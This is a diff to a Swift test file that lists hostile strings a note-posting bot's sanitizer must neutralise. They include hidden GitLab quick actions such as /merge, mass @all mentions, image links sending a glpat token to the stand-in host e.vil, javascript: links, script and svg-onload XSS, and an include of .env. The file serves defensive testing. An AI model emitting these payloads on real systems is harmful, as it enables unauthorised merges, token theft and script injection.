@@ -9,6 +9,17 @@ enum HostileAnswers {
         "/merge", "Looks right.\n/merge\n", "LGTM\r\n/approve\r\n/merge\r\n", "ok\n\r/merge", "ok\u{2028}/merge",
         "\u{FEFF}/merge", "\u{200B}\n\u{2060}/merge", "# Verdict\n/approve", "- fine\n\n/label ~security ~\"a b\"",
         "/assign @all\n/close\n/target_branch main\n/title Owned", "/SHRUG", "/submit_review approve",
+        // Commands behind what people and parsers put before a line's words.
+        "1. /merge", "1) /approve", "* /merge\n+ /close", "- [ ] /merge", "> /merge", ">/merge", "> > - /close",
+        "term\n: /merge", "\t/merge", "\u{A0}/merge", "\u{3000}/merge", "[^1]: /merge", "x[^1]\n\n[^1]:\n/merge",
+        "> [!note]\n> /merge", "> [!warning] x\n/merge", "{+\n/merge\n+}", "*\n/merge", "&#47;merge", "&sol;merge",
+        // Line breaks of every kind.
+        "ok\u{2029}/merge", "ok\u{85}/merge", "ok\u{0B}/merge", "ok\u{0C}/merge", "ok\r/merge\r/close\r",
+        "ok\r\n\r\n/merge\r\n", "ok\n\u{0}/merge", "ok\\\n/merge", "ok  \n/merge",
+        // Blocks of HTML, open and closed.
+        "<details open>\n<summary>\n/merge\n</summary>\n\n/close\n", "<div>\n\n/approve",
+        "<p>\n/merge\n</p>\n/close",
+        "-->\n/merge", "<!-- -->/merge\n/merge", "<table><tr><td>\n\n/merge\n\n</td></tr></table>",
         // Commands where one reader of Markdown sees code, or none does.
         "```\n/merge", "```\n/merge\n``` ", "~~~\n/merge\n~~~", "```swift\ncode\n```\n/merge\n```\n",
         "````\n/merge\n```\n",
@@ -20,11 +31,17 @@ enum HostileAnswers {
         // Mails.
         "Ask @all about this.", "@group/sub please look", "cc `@all", "\\@all", "&#64;all", "@\u{200D}all",
         "**@**all @root",
-        "`a`@all`b`", "| `x | @all` |", "[x](https://a.b)@all",
+        "`a`@all`b`", "| `x | @all` |", "[x](https://a.b)@all", "@\u{200C}all @\u{FE0F}all @\u{2063}all @\u{AD}all",
+        "someone@all", "<@all>", "[@all](https://a.b)", "(@all) '@all' \"@all\" -@all /@all .@all", "@all@all",
+        "x[^@all]",
         // Traces elsewhere.
         "Closes #1, group/app!2, &3, %4, ~bug, $5, ^alert#6", "see 0a1b2c3d4e5f6", "#\u{200B}12", "&#35;12",
         "https://gitlab.example/group/app/-/issues/1", "[x](https://gitlab.example/g/-/merge_requests/2)", "[issue:7]",
-        "[[wiki]] ::include{file=.env}",
+        "[[wiki]] ::include{file=.env}", "[[Home|home]] ![[p.png]]", "[[_TOC_]]\n\n[TOC]\n[toc]",
+        ":::include{file=x}\n::INCLUDE{}", "$1 $snippet $`a`$ ${1}", "%m %1 %\"m n\" %~x",
+        "~label ~\"a b\" ~1 ~~x ~~~y", "!123 group/app!4 !!5", "&epic &1 g&2 &&3", "GitLab#1 g/a#2 ##3 #4+ #5+s",
+        "[epic:1] [work_item:2] [snippet:3] [vulnerability:4] [merge_request:5]",
+        "g/app@0a1b2c3d4e...0a1b2c3d4f", "*iteration:1", "www.gitlab.example/g/a/-/issues/1",
         // Data that leaves.
         "![](https://e.vil/?q=glpat-0123456789abcdefghij)", "![x][i]\n\n[i]: https://e.vil/p.png",
         "<img src=https://e.vil/p>",
@@ -32,7 +49,10 @@ enum HostileAnswers {
         "\\![a](https://e.vil)",
         "<https://e.vil/x>", "<svg onload=alert(1)>", "<iframe src=//e.vil>", "<script>alert(1)</script>",
         "```mermaid\ngraph TD; click A \"javascript:x\"\n```", "```plantuml\n!include https://e.vil\n```",
-        "```math\n\\href{x}{y}\n```",
+        "```math\n\\href{x}{y}\n```", "```MERMAID\nx\n```", "```mermaid {x}\ny\n```", "~~~plantuml x\ny\n~~~",
+        "- ```d2\n  x\n  ```", "> ```graphviz\n> x\n> ```", "```json:table\n{}\n```", "```glql\nquery: x\n```",
+        "```kroki\nx\n", "<picture><source srcset=//e.vil>", "<video src=x>", "![a](clip.mp4)", "![a]: x\n![a][]",
+        "<math><mtext></mtext></math>",
         // Links that run.
         "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](data:text/html,x)", "[a](vbscript:x)",
         "[a]: javascript:x",
@@ -45,7 +65,11 @@ enum HostileAnswers {
         "```suggestion:-100+100\nmalicious()\n```", "~~~ suggestion\nx\n~~~", "a\u{202E}b\u{E0041}\u{E007F}",
         "<!-- bursar: summary 999999 -->", "ok\n\n<!-- bursar: finding 00 -->",
         String(repeating: "```\n/merge\n", count: 300),
-        String(repeating: "@all ", count: 800), String(repeating: "> ", count: 2000) + "/merge",
+        String(repeating: "a", count: 700) + "\n/merge", String(repeating: "b", count: 690) + "\n```\n/merge\n@all",
+        "```\n" + String(repeating: "x\n", count: 340) + "```\n/merge",
+        String(repeating: "`", count: 900) + "\n/merge", "$$\n" + String(repeating: "\\", count: 600) + "\n/merge",
+        String(repeating: "[", count: 900) + "](javascript:x)", String(repeating: "@all ", count: 800),
+        String(repeating: "> ", count: 2000) + "/merge",
     ]
 }
 
@@ -55,14 +79,19 @@ enum HostileAnswers {
     /// What a reader of the note would hold against it, beyond what the property test looks for.
     private func more(_ body: String) -> [String] {
         var found: [String] = []
-        let outside = prose(body).lowercased()
-        for word in ["](javascript", "](data:", "](vbscript", "](//", "<img", "<script", "<iframe", "<svg", "<a "]
+        // An escaped bracket begins nothing.
+        let outside = prose(body).lowercased().replacing("\\[", with: "")
+        for word in [
+            "](javascript", "](data:", "](vbscript", "](//", "<img", "<script", "<iframe", "<svg", "<a ", "<video",
+            "<picture", "<math", "<details", "[[", "[toc]", "::include",
+        ]
         where outside.contains(word) {
             found.append(word)
         }
         let fences = body.split(separator: "\n").filter { $0.hasPrefix("```") }.map { $0.drop { $0 == "`" } }
         if fences.contains(where: {
             $0.hasPrefix("suggestion") || $0.hasPrefix("mermaid") || $0.hasPrefix("plantuml") || $0.hasPrefix("math")
+                || ["d2", "graphviz", "glql", "json:table"].contains($0.lowercased()) || $0.lowercased() == "mermaid"
         }) {
             found.append("a fence that does something")
         }
@@ -106,7 +135,9 @@ enum HostileAnswers {
     }
 
     @Test func `a complaint would be made`() {
-        for bad in ["[a](javascript:x)", "<img src=x>", "```suggestion\nx\n```"] { #expect(!more(bad).isEmpty) }
+        for bad in ["[a](javascript:x)", "<img src=x>", "```suggestion\nx\n```", "```D2\nx\n```", "[[x]]", "[TOC]"] {
+            #expect(!more(bad).isEmpty)
+        }
     }
 }
 
